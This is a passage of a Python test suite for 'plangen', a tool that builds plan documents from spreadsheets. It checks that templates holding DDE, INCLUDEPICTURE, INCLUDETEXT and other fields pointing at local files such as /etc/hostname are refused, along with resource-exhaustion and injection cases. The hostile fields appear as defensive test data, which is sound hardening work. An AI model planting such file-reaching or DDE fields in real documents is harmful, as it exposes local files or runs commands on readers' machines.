                        d, f"{f} &quot;file:///etc/hostname&quot; \\d", s
                    ),
                    f"the {field.upper()} field reaches outside the document",
                )
            )
    return cases


REACHING = _reaching_templates()


REACHING_IDS = [
    "file-image",
    "http-image",
    "attached-template",
    "file-hyperlink",
    "altChunk",
    "vml-http",
    "vml-unc",
    "utf16-rels",
] + [
    f"{field}-{kind}"
    for field in ("INCLUDETEXT", "INCLUDEPICTURE", "DDE", "DDEAUTO", "LINK", "includetext")
    for kind in ("fldSimple", "complex")
]


@pytest.mark.parametrize(("builder", "phrase"), REACHING, ids=REACHING_IDS)
def test_templates_reaching_outside_are_refused(
    builder: Callable[[Path], Path], phrase: str, tmp_path: Path, system_example: Path
):
    template = builder(tmp_path)
    before = corpus.digest(template)
    checked = invoke("template", "check", template, "--kind", "system")
    assert checked.exit_code == 1
    assert any(
        line.startswith(f"error: {template}: word/") and phrase in line
        for line in checked.output.splitlines()
    ), checked.output
    built = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert built.exit_code == 1
    assert phrase in built.output
    assert not (tmp_path / "out").exists()
    assert corpus.digest(template) == before


def test_a_field_the_template_builds_while_rendering_is_refused(
    tmp_path: Path, system_example: Path
):
    made = (
        '{{ \'</w:t></w:r><w:fldSimple w:instr="INCLUDEPICTURE file:///etc/x.png"/>'
        "<w:r><w:t>'|safe }}"
    )
    template = corpus.template_with(tmp_path, "Plan for {{ district }}", made)
    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        f"error: {template}: word/document.xml: the INCLUDEPICTURE field reaches outside "
        'the document: "INCLUDEPICTURE file:///etc/x.png"'
    )
    assert list((tmp_path / "out").glob("*")) == []
    checked = invoke("template", "check", template, "--kind", "system")
    assert checked.exit_code == 1
    lines = checked.output.splitlines()
    assert lines and all(line.startswith(f"error: {template}: word/") for line in lines), lines
    assert "the INCLUDEPICTURE field reaches outside the document" in checked.output


def test_a_web_hyperlink_in_a_template_is_allowed(tmp_path: Path, system_example: Path):
    from docx import Document
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml

    doc = Document()
    paragraph = doc.add_paragraph("Plan for {{ district }} ")
    rid = doc.part.relate_to("https://www.example.org/csdp", RT.HYPERLINK, is_external=True)
    paragraph._p.append(
        parse_xml(
            '<w:hyperlink xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
            ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
            f' r:id="{rid}"><w:r><w:t>guide</w:t></w:r></w:hyperlink>'
        )
    )
    template = tmp_path / "linked.docx"
    doc.save(str(template))
    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert result.exit_code == 0, result.output


def _pictures(pdf: Path) -> list[bytes]:
    from pypdf import PdfReader

    found = []
    for page in PdfReader(pdf).pages:
        for ref in (page["/Resources"].get("/XObject") or {}).values():
            found.append(ref.get_object().get_data())
    return found


def test_a_linked_local_picture_never_reaches_the_pdf(tmp_path: Path, system_example: Path):
    from plangen.errors import ConversionError
    from plangen.pdf.convert import to_pdf

    secret = corpus.secret_picture(tmp_path)
    template = corpus.template_linking_image(tmp_path, secret.as_uri())
    red = b"\xff\x00\x00" * 64 * 64
    raw = tmp_path / "raw" / "linked.docx"
    raw.parent.mkdir()
    raw.write_bytes(template.read_bytes())
    try:  # LibreOffice itself does embed the linked local file
        assert red in _pictures(to_pdf(raw))
    except ConversionError:
        pytest.skip("LibreOffice is not installed")
    out = tmp_path / "out"
    result = CliRunner().invoke(
        cli, ["build", str(system_example), "-o", str(out), "--template", str(template), "--pdf"]
    )
    assert result.exit_code == 1
    assert "points outside the document" in result.output
    assert not out.exists()


def test_the_time_limit_alone_stops_a_constant_folded_at_compile_time(
    tmp_path: Path, system_example: Path, monkeypatch: pytest.MonkeyPatch
):
    """With the filter caps switched off, the time limit still stops jinja folding
    `[1]|slice(10**12)|max` while compiling (before the fix it ran forever)."""
    from plangen.document import sandbox

    monkeypatch.setenv("PLANGEN_RENDER_SECONDS", "1")
    monkeypatch.setattr(sandbox, "_capped_filter", lambda name, original: original)
    template = corpus.template_with(tmp_path, "{{ [1]|slice(1000000000000)|max }}")
    result = invoke("template", "check", template, "--kind", "system")  # hours without it
    assert result.exit_code == 1, result.output
    assert result.output.splitlines() == [
        f"error: {template}: the template did not finish within 1 seconds "
        "(an endless loop or a recursive macro?)"
    ]


def test_memory_backstop_stops_a_template_keeping_many_big_values(
    tmp_path: Path, system_example: Path, monkeypatch: pytest.MonkeyPatch
):
    """Each value is under the caps; together they pass the memory limit (made 64 MB here
    to keep the test light; 512 MB in use)."""
    from plangen.document import sandbox

    monkeypatch.setattr(sandbox, "MAX_MEMORY", 64 * 2**20)
    kept = "".join(f"{{% set v{i} = ('x' * 999000) ~ {i} %}}" for i in range(200))
    template = corpus.template_with(tmp_path, kept + "{{ v1|length }}")
    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        f"error: {template}: the template used more than 64 MB of memory while rendering; refused"
    ]
    assert not (tmp_path / "out").exists()


def test_a_template_with_too_much_text_xml_is_refused_unread(tmp_path: Path, system_example: Path):
    template = corpus.template_with_huge_footer(tmp_path, size=4 * 1024 * 1024, count=3)
    result = invoke("template", "check", template, "--kind", "system")
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        f"error: {template}: its text (body, headers, footers, notes) would unpack to 13 MB "
        "of XML, more than the 10 MB plangen renders; refused unread"
    ]


# ------------------------------------------------------------------ hardening (issue 12)


def test_huge_sheets_are_refused_in_bounded_time_and_memory_in_a_child(tmp_path: Path):
    """The reader would abort the whole process (SIGABRT) on XFD1048576; AZ300000 took
    674 MB, one shared text in 20,000 cells 1.8 GB. A real `plangen` process: exit 1, one
    line, little memory."""
    cases = []
    for ref in ("XFD1048576", "AZ300000"):
        folder = tmp_path / ref
        folder.mkdir()
        cases.append((corpus.far_cell(folder, ref), f"Observations!{ref}: this filled cell"))
    cases.append((corpus.shared_text_amplified(tmp_path), "Observations: its cells would hold"))
    for path, phrase in cases:
        done = subprocess.run(
            [
                "/usr/bin/time",
                "-f",
                "maxrss_kb=%M",
                sys.executable,
                "-m",
                "plangen",
                "validate",
                str(path),
            ],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.returncode == 1, done.stderr
        assert f"error: {path}: {phrase}" in done.stderr
        assert "Traceback" not in done.stderr
        rss_kb = int(done.stderr.rsplit("maxrss_kb=", 1)[1])
        assert rss_kb < 150_000


def test_repetitive_text_is_not_taken_for_a_zip_bomb(tmp_path: Path):
    path = corpus.repetitive_text(tmp_path)
    text = build_ok(path, tmp_path / "out")
    assert text.count(corpus.REPEATED_TEXT.strip()) == 60


def test_a_part_over_the_size_cap_is_refused_unread(tmp_path: Path):
    path = corpus.copy_example(tmp_path, "big.xlsx")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/big.bin", b"\0" * 110_000_000)
    check_refused(path, tmp_path, "more than the 100 MB plangen reads in one part")


@pytest.mark.parametrize(
    ("cells", "where"),
    [
        (
            {"Observations!A4": '="The team meets "&"monthly"'},
            "Observations!A4: Observation: the formula",
        ),
        (
            {f"Supports!{c}4": "=1+1" for c in "ABCDEFGHIJ"},
            "Supports!B4: Support: the formula =1+1 has no saved result",
        ),
        ({"Supports!Z10": "=1+1"}, "Supports!Z10: the formula =1+1 has no saved result"),
    ],
    ids=["observation-row", "supports-row", "outside-the-table"],
)
def test_rows_and_cells_of_unsaved_formulas_are_errors_never_dropped(
    cells: dict[str, Any], where: str, tmp_path: Path
):
    path = corpus.set_cells(tmp_path, cells)
    check_invalid(path, tmp_path, where)


@pytest.mark.parametrize(
    ("cells", "where"),
    [
        (
            {"Plan!B6": date(9999, 12, 31)},
            "Plan!B6: Plan ends: 9999-12-31 is outside the dates a plan can hold "
            "(1990-01-01 to 2100-12-31)",
        ),
        (
            {"Supports!E4": date(1900, 1, 2)},
            "Supports!E4: Target date: 1900-01-02 is outside the dates a plan can hold",
        ),
        (
            {"Plan!B5": date(1995, 1, 1), "Plan!B6": date(2099, 12, 31)},
            "Plan!B6: Plan ends: the plan would run from 1995-01-01 to 2099-12-31; "
            "a plan runs at most 10 years",
        ),
    ],
    ids=["year-9999", "year-1900", "a-century"],
)
def test_dates_outside_a_plan_are_errors_at_their_cell(
    cells: dict[str, Any], where: str, tmp_path: Path
):
    lines = check_invalid(corpus.set_cells(tmp_path, cells), tmp_path, where)
    assert not any("template" in line for line in lines)


def test_a_district_name_longer_than_a_title_may_be_builds(tmp_path: Path):
    name = "Division of " + "very " * 60 + "long names"
    path = corpus.set_cells(tmp_path, {"Plan!B4": name})
    assert name in build_ok(path, tmp_path / "out")
    title = Document(str(tmp_path / "out" / "plan.docx")).core_properties.title
    assert len(title) == 255 and title.endswith("…")


def test_a_rebuilt_private_plan_stays_private(tmp_path: Path, system_example: Path):
    out = tmp_path / "out"
    build_ok(system_example, out)
    plan = out / f"{system_example.stem}.docx"
    plan.chmod(0o600)
    build_ok(system_example, out)
    assert stat.S_IMODE(plan.stat().st_mode) == 0o600


def test_the_longest_legal_name_builds(tmp_path: Path):
    path = corpus.longest_name(tmp_path)
    assert len(path.name.encode()) == 250
    build_ok(path, tmp_path / "out")


def test_a_name_that_is_not_utf8_builds_alone_and_in_a_batch(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    path = corpus.not_utf8_name(folder)
    corpus.copy_example(folder, "good.xlsx")
    assert "Super Excited Division" in build_ok(path, tmp_path / "one")
    out = tmp_path / "out"
    result = invoke("batch", folder, "-o", out, "-j", "1")
    assert result.exit_code == 0, result.output
    assert "built: caf\ufffd.xlsx" in result.output
    assert "caf\ufffd.xlsx,Super Excited Division" in (out / "summary.csv").read_text("utf-8")
    assert len(list(out.glob("*.docx"))) == 2


def _batch_folder(tmp_path: Path, *names: str) -> Path:
    folder = tmp_path / "in"
    folder.mkdir(exist_ok=True)
    for name in names:
        corpus.copy_example(folder, name)
    return folder


def test_batch_summary_onto_a_workbook_is_refused(tmp_path: Path):
    folder = _batch_folder(tmp_path, "summary.xlsx", "north.xlsx")
    before = corpus.digest(folder)
    result = invoke("batch", folder, "-o", folder, "-j", "1")
    assert result.exit_code == 2, result.output
    assert f"{folder / 'summary.xlsx'} is a workbook, and the batch summary" in result.output
    assert corpus.digest(folder) == before


def test_batch_summary_onto_a_workbook_in_the_output_folder_is_refused(tmp_path: Path):
    folder = _batch_folder(tmp_path, "north.xlsx")
    out = tmp_path / "out"
    out.mkdir()
    corpus.copy_example(out, "summary.xlsx")
    before = corpus.digest(out)
    result = invoke("batch", folder, "-o", out, "-j", "1")
    assert result.exit_code == 2, result.output
    assert f"{out / 'summary.xlsx'} is a workbook plangen did not write" in result.output
    assert corpus.digest(out) == before


def test_a_summary_of_an_earlier_plangen_is_replaced(tmp_path: Path):
    folder = _batch_folder(tmp_path, "north.xlsx")
    out = tmp_path / "out"
    assert invoke("batch", folder, "-o", out, "-j", "1").exit_code == 0
    (out / ".plangen-batch.json").unlink()  # as an older plangen left it: no checksum
    again = invoke("batch", folder, "-o", out, "-j", "1")
    assert again.exit_code == 0, again.output
    (folder / ".plangen-batch.json").unlink(missing_ok=True)
    beside = invoke("batch", folder, "-o", folder, "-j", "1")
    assert beside.exit_code == 0, beside.output
    (folder / ".plangen-batch.json").unlink()
    rerun = invoke("batch", folder, "-o", folder, "-j", "1")
    assert rerun.exit_code == 0, rerun.output
    assert "1 workbooks:" in rerun.output  # its own summary.xlsx is not read as a workbook


def test_batch_into_its_input_folder_twice_keeps_its_own_summary_apart(tmp_path: Path):
    folder = _batch_folder(tmp_path, "north.xlsx")
    first = invoke("batch", folder, "-o", folder, "-j", "1")
    assert first.exit_code == 0, first.output
    again = invoke("batch", folder, "-o", folder, "-j", "1")
    assert again.exit_code == 0, again.output
    assert "1 workbooks: 0 built, 1 skipped" in again.output
    assert corpus.digest(folder / "north.xlsx") == corpus.digest(corpus.SYSTEM_EXAMPLE)
    elsewhere = invoke("batch", folder, "-o", tmp_path / "out", "-j", "1")
    assert elsewhere.exit_code == 0, elsewhere.output  # its summary is not read as a plan
    assert "1 workbooks: 1 built" in elsewhere.output


def test_combined_pdf_onto_a_plans_pdf_is_refused(tmp_path: Path):
    folder = _batch_folder(tmp_path, "all-plans.xlsx", "north.xlsx")
    out = tmp_path / "out"
    result = invoke("batch", folder, "-o", out, "--combine")
    assert result.exit_code == 2, result.output
    assert "the PDF of" in result.output and "all-plans.pdf" in result.output
    assert not out.exists()


def test_a_second_batch_into_a_busy_folder_stops_with_one_line(tmp_path: Path):
    from plangen.batch.run import Batch

    folder = _batch_folder(tmp_path, "north.xlsx")
    out = tmp_path / "out"
    with Batch(folder, out).locked():
        result = invoke("batch", folder, "-o", out, "-j", "1")
    assert result.exit_code == 1, result.output
    assert result.output.strip().splitlines() == [
        f"error: {out}: another plangen batch (process {os.getpid()}) is writing into this "
        "folder; wait until it ends, or choose another -o folder"
    ]
    assert not list(out.glob("*.docx"))


def test_two_batches_into_one_folder_keep_each_others_entries(tmp_path: Path):
    out = tmp_path / "out"
    for name in ("north", "south"):
        folder = tmp_path / name
        folder.mkdir()
        corpus.copy_example(folder, f"{name}.xlsx")
        assert invoke("batch", folder, "-o", out, "-j", "1").exit_code == 0
    manifest = json.loads((out / ".plangen-batch.json").read_text())
    assert sorted(manifest["plans"]) == ["north.docx", "south.docx"]


def test_symlinked_sub_folders_are_followed_once_without_loops(tmp_path: Path):
    folder = _batch_folder(tmp_path, "top.xlsx")
    elsewhere = tmp_path / "shared" / "north"
    elsewhere.mkdir(parents=True)
    corpus.copy_example(elsewhere, "north.xlsx")
    (folder / "north").symlink_to(elsewhere, target_is_directory=True)
    (folder / "loop").symlink_to(folder, target_is_directory=True)
    out = tmp_path / "out"
    result = invoke("batch", folder, "-o", out, "-j", "1")
    assert result.exit_code == 0, result.output
    assert "2 workbooks: 2 built" in result.output
    assert (out / "north" / "north.docx").is_file()


def _session_processes(sid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if fields[0] != "Z" and int(fields[3]) == sid:
                found.append(int(entry.name))
    return found


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs Linux /proc")
def test_kill_9_of_a_batch_leaves_no_process_writing(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    for i in range(12):
        corpus.copy_example(folder, f"plan{i:02}.xlsx")
    out = tmp_path / "out"
    proc = subprocess.Popen(
        [sys.executable, "-m", "plangen", "batch", str(folder), "-o", str(out), "-j", "2"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    deadline = time.monotonic() + 60
    while not list(out.glob("*.docx")) and time.monotonic() < deadline:
        time.sleep(0.01)
    assert len(_session_processes(proc.pid)) >= 3  # the batch, a forkserver, workers
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 60
    while _session_processes(proc.pid) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _session_processes(proc.pid) == []
    assert _holding(out) == []  # nothing left with a file of the output folder open


def _holding(folder: Path) -> list[int]:
    """The processes with a file under `folder` open (their working folder included)."""
    inside = str(folder.resolve())
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            links = [os.readlink(fd) for fd in (entry / "fd").iterdir()]
            links.append(os.readlink(entry / "cwd"))
        except OSError:
            continue
        if any(link == inside or link.startswith(inside + "/") for link in links):
            found.append(int(entry.name))
    return found


def test_jobs_1_batch_survives_a_far_cell_and_writes_its_summary(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    corpus.far_cell(folder)
    corpus.copy_example(folder, "good.xlsx")
    out = tmp_path / "out"
    result = invoke("batch", folder, "-o", out, "-j", "1")
    assert result.exit_code == 1, result.output
    assert "2 workbooks: 1 built, 0 skipped (unchanged), 0 invalid, 1 failed" in result.output
    assert "Observations!XFD1048576" in (out / "summary.csv").read_text("utf-8")


def test_as_of_outside_the_dates_of_a_plan_is_a_usage_error(system_example: Path):
    result = invoke("status", system_example, "--as-of", "9999-12-31")
    assert result.exit_code == 2
    assert "9999-12-31 is outside the dates a plan can hold (1990-01-01 to 2100-12-31)" in (
        result.output
    )


def test_a_limit_the_built_in_template_hits_names_the_plan_not_the_template(
    tmp_path: Path, system_example: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("PLANGEN_RENDER_SECONDS", "0.000001")
    result = invoke("build", system_example, "-o", tmp_path / "out")
    assert result.exit_code == 1
    assert error_lines(result) == [
        "error: the plan is too large to write with the built-in template (the template did "
        "not finish within 1e-06 seconds)"
    ]
    assert "hint: shorten the longest texts or tables of the workbook" in result.output
    assert leftovers(tmp_path) == []


def test_many_sheets_together_over_the_cell_cap_are_refused(tmp_path: Path):
    def edit(book: Any) -> None:
        for i in range(3):
            book.create_sheet(f"Extra {i}")[f"A{400_000}"] = "x"

    path = corpus.edited(tmp_path, edit, "many.xlsx")
    check_refused(path, tmp_path, "(all sheets together")


def test_a_file_larger_than_plangen_reads_is_refused_unread(tmp_path: Path):
    path = tmp_path / "huge.xlsx"
    with path.open("wb") as handle:  # sparse: no disk space used
        handle.write(corpus.OLE_MAGIC)
        handle.truncate(300_000_000)
    check_refused(path, tmp_path, "is 300 MB, more than the 50 MB plangen reads")


def test_a_batch_refuses_a_huge_file_without_reading_it(tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    corpus.copy_example(folder, "good.xlsx")
    with (folder / "huge.xlsx").open("wb") as handle:  # sparse: no disk space used
        handle.truncate(5_000_000_000)
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = invoke("batch", folder, "-o", tmp_path / "out", "-j", "1")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before < 100_000
    assert result.exit_code == 1, result.output
    assert "2 workbooks: 1 built, 0 skipped (unchanged), 0 invalid, 1 failed" in result.output
    summary = (tmp_path / "out" / "summary.csv").read_text("utf-8")
    assert "is 5,000 MB, more than the 50 MB plangen reads" in summary


def test_a_pipe_named_like_a_template_is_refused_without_waiting(
    tmp_path: Path, system_example: Path
) -> None:
    pipe = tmp_path / "pipe.docx"
    os.mkfifo(pipe)
    out = tmp_path / "out"
    for args in (
        ["build", system_example, "-o", out, "--template", pipe],
        ["template", "check", pipe, "--kind", "system"],
    ):
        result = invoke(*args)
        assert result.exit_code == 1, result.output
        assert result.output.splitlines()[-1] == (
            f"error: {pipe}: is not a regular file (a folder, pipe, device or socket); "
            "refused unread"
        )
    assert not out.exists()


def test_openpyxl_writes_pulled_edits_with_defusedxml_on_guard() -> None:
    """`defusedxml` is declared for openpyxl, which `pull` uses to write a workbook and
    which parses with it (refusing entity bombs) only when it is installed."""
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML


# A text that looks like a spreadsheet escape: Excel reads `_x0041_` in a part as "A", so
# one typed as text is stored `_x005F_x0041_`. Every spreadsheet plangen writes must keep it
# the text that was typed (the chart's "Edit Data" workbook, the batch summary, a pull).
LOOKS_ESCAPED = "_x0041_ team"


def test_text_like_a_spreadsheet_escape_stays_the_text_typed(tmp_path: Path) -> None:
    from plangen.workbook.grids import read_grids

    folder = tmp_path / "in"
    folder.mkdir()
    stored = "_x005F_x0041_ team"  # what Excel writes for the text _x0041_ team
    workbook = corpus.set_texts(folder, {"Plan!B4": stored, "Supports!A4": stored})
    plan = load(workbook).plan
    assert plan.fields["district"] == LOOKS_ESCAPED  # read as typed, not as "A team"
    out = tmp_path / "out"
    assert invoke("batch", folder, "-o", out, "-j", "1").exit_code == 0
    docx = out / "plan.docx"
    assert LOOKS_ESCAPED in "\n".join(p.text for p in Document(str(docx)).paragraphs)
    chart_book = tmp_path / "chart.xlsx"
    with zipfile.ZipFile(docx) as archive:
        chart_book.write_bytes(archive.read("word/embeddings/Microsoft_Excel_Worksheet2.xlsx"))
    assert read_grids(chart_book)["Sheet1"].rows[1][0].startswith(f"{LOOKS_ESCAPED} (")
    summary = read_grids(out / "summary.xlsx")["Summary"]
    assert summary.rows[1][1] == LOOKS_ESCAPED
